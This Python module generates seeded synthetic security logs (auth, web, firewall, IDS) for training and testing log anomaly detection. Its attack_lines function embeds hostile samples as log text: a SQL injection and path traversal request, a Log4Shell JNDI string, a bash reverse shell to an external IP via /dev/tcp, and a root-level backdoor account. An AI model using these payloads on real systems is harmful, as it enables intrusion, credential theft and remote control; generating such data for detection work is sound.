"""Seeded synthetic security logs: sshd/sudo auth, web access, firewall and IDS alerts.

The benign stream imitates what a small shop's syslog collector sees on a quiet day (logins, cron,
web traffic, blocked scans, low-priority IDS alerts) so a log model learns what "normal" looks like;
:func:`attack_lines` yields lines of the kinds an analyst hunts for (SQL injection, path traversal,
Log4Shell, reverse shells, new sudoers), for anomaly-scoring tests and demos.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta

KINDS = ("auth", "web", "firewall", "ids")

_USERS = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi"]
_HOSTS = ["web01", "web02", "db01", "bastion", "mail01", "build01"]
_INTERNAL = [f"10.0.{a}.{b}" for a in range(1, 4) for b in (5, 11, 17, 23, 42, 77, 101)]
_EXTERNAL = ["198.51.100.7", "203.0.113.5", "192.0.2.44", "198.51.100.99", "203.0.113.81", "192.0.2.200"]
_PATHS = [
    "/", "/index.html", "/login", "/logout", "/static/app.js", "/static/style.css", "/favicon.ico",
    "/api/v1/orders", "/api/v1/orders?page=2", "/api/v1/users/me", "/api/v1/health", "/docs", "/images/logo.png",
]
_AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "curl/8.5.0",
    "kube-probe/1.29",
]
_COMMANDS = [
    "/usr/bin/systemctl restart nginx", "/usr/bin/apt-get update", "/usr/bin/journalctl -u sshd", "/bin/ls /root",
]
_IDS_RULES = [
    ("1:2010935:3", "ET SCAN Suspicious inbound to MSSQL port 1433", "Potentially Bad Traffic", 2, 1433),
    ("1:2001219:20", "ET SCAN Potential SSH Scan", "Attempted Information Leak", 2, 22),
    ("1:2002911:6", "ET SCAN Potential VNC Scan 5900-5920", "Attempted Information Leak", 2, 5900),
    ("1:2013028:7", "ET POLICY curl User-Agent Outbound", "Attempted Information Leak", 3, 443),
]


def _syslog_ts(ts: datetime) -> str:
    return f"{ts:%b} {ts.day:>2} {ts:%H:%M:%S}"  # syslog pads the day with a space: "Jan  5"


def _auth(rng: random.Random, ts: datetime) -> str:
    host, user, ip = rng.choice(_HOSTS), rng.choice(_USERS), rng.choice(_INTERNAL)
    pid, port = rng.randint(1000, 65000), rng.randint(30000, 65000)
    event = rng.choices(["accept", "session", "close", "fail", "sudo", "cron"], weights=[5, 4, 4, 1, 2, 3])[0]
    if event == "accept":
        how = rng.choice(["publickey", "publickey", "password"])
        msg = f"sshd[{pid}]: Accepted {how} for {user} from {ip} port {port} ssh2"
    elif event == "session":
        uid = 1000 + _USERS.index(user)
        msg = f"sshd[{pid}]: pam_unix(sshd:session): session opened for user {user}(uid={uid}) by (uid=0)"
    elif event == "close":
        msg = f"sshd[{pid}]: pam_unix(sshd:session): session closed for user {user}"
    elif event == "fail":
        msg = f"sshd[{pid}]: Failed password for {user} from {ip} port {port} ssh2"
    elif event == "sudo":
        tty, cmd = rng.randint(0, 3), rng.choice(_COMMANDS)
        msg = f"sudo: {user} : TTY=pts/{tty} ; PWD=/home/{user} ; USER=root ; COMMAND={cmd}"
    else:
        msg = f"CRON[{pid}]: (root) CMD (/usr/local/bin/backup.sh --incremental)"
    return f"{_syslog_ts(ts)} {host} {msg}"


def _web(rng: random.Random, ts: datetime) -> str:
    ip = rng.choice(_INTERNAL + _EXTERNAL[:2])
    method = rng.choices(["GET", "POST"], weights=[8, 2])[0]
    path = rng.choice(_PATHS)
    status = rng.choices([200, 304, 302, 404, 401], weights=[20, 4, 2, 2, 1])[0]
    size = 0 if status == 304 else rng.randint(200, 20000)
    stamp = ts.strftime("%d/%b/%Y:%H:%M:%S +0000")
    return f'{ip} - - [{stamp}] "{method} {path} HTTP/1.1" {status} {size} "-" "{rng.choice(_AGENTS)}"'


def _firewall(rng: random.Random, ts: datetime) -> str:
    src, dst = rng.choice(_EXTERNAL), rng.choice(_INTERNAL)
    dpt = rng.choice([22, 23, 445, 3389, 8080, 1433])
    action = rng.choices(["BLOCK", "ALLOW"], weights=[4, 1])[0]
    return (
        f"{_syslog_ts(ts)} fw01 kernel: [UFW {action}] IN=eth0 OUT= SRC={src} DST={dst} LEN=60 "
        f"TTL={rng.randint(40, 64)} PROTO=TCP SPT={rng.randint(30000, 65000)} DPT={dpt} WINDOW=29200 SYN"
    )


def _ids(rng: random.Random, ts: datetime) -> str:
    sid, msg, cls, prio, port = rng.choice(_IDS_RULES)
    src, dst = rng.choice(_EXTERNAL), rng.choice(_INTERNAL)
    stamp = ts.strftime("%m/%d/%Y-%H:%M:%S.") + f"{rng.randint(0, 999999):06d}"
    return (
        f"{stamp}  [**] [{sid}] {msg} [**] [Classification: {cls}] [Priority: {prio}] "
        f"{{TCP}} {src}:{rng.randint(30000, 65000)} -> {dst}:{port}"
    )


_GENERATORS = {"auth": _auth, "web": _web, "firewall": _firewall, "ids": _ids}


def generate_logs(
    n_lines: int,
    seed: int = 0,
    kinds: tuple[str, ...] = KINDS,
    start: datetime | None = None,
) -> Iterator[str]:
    """``n_lines`` benign log lines of the given kinds, interleaved in time order, reproducible from ``seed``."""
    unknown = [k for k in kinds if k not in _GENERATORS]
    if unknown:
        raise ValueError(f"unknown log kind(s) {unknown}; choose from {list(KINDS)}")
    rng = random.Random(seed)
    ts = start or datetime(2026, 1, 5, 8, 0, 0, tzinfo=UTC)
    weights = {"auth": 4, "web": 8, "firewall": 3, "ids": 1}
    for _ in range(n_lines):
        ts += timedelta(seconds=rng.randint(0, 20))
        kind = rng.choices(kinds, weights=[weights[k] for k in kinds])[0]
        yield _GENERATORS[kind](rng, ts)


def attack_lines(seed: int = 0, when: datetime | None = None) -> list[str]:
    """Malicious lines in the same formats as the benign stream (what anomaly scoring should surface)."""
    rng = random.Random(seed)
    ts = when or datetime(2026, 1, 5, 12, 0, 0, tzinfo=UTC)
    stamp = ts.strftime("%d/%b/%Y:%H:%M:%S +0000")
    ip = rng.choice(_EXTERNAL)
    return [
        f'{ip} - - [{stamp}] "GET /login.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20- '
        f'HTTP/1.1" 200 913 "-" "sqlmap/1.7.2#stable (https://sqlmap.org)"',
        f'{ip} - - [{stamp}] "GET /static/../../../../etc/passwd HTTP/1.1" 200 2291 "-" "${{jndi:ldap://{ip}:1389/a}}"',
        f"{_syslog_ts(ts)} web01 sudo: www-data : TTY=unknown ; PWD=/tmp ; USER=root ; "
        f"COMMAND=/bin/bash -c 'bash -i >& /dev/tcp/{ip}/4444 0>&1'",
        f"{_syslog_ts(ts)} db01 useradd[31337]: new user: name=sysupd, UID=0, GID=0, home=/root, shell=/bin/bash",
    ]
